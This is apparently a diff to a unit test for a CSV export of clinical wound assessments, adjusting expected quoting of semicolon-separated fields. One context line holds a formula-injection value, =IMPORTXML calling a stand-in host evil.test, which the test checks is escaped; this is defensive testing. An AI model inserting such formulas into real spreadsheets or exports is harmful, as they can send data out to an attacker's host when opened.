@@ -108,6 +108,6 @@ describe('assessmentsCsv', () => {
     expect(header).toBe(ASSESSMENT_CSV_HEADERS.join(','))
     expect(rest).toHaveLength(2)
     expect(rest[0]).toContain(',"\'=IMPORTXML(""http://evil.test"")\nsecond line",2026-03-01 10:00:00,')
-    expect(rest[0]?.startsWith('8,2026-03-01,ATTACHED; ROLLED,DRY; ERYTHEMA,0,4,10,MODERATE,SERO-SANGUINEOUS,changed twice daily,NO,YES,')).toBe(true)
+    expect(rest[0]?.startsWith('8,2026-03-01,"ATTACHED; ROLLED","DRY; ERYTHEMA",0,4,10,MODERATE,SERO-SANGUINEOUS,changed twice daily,NO,YES,')).toBe(true)
   })
 })
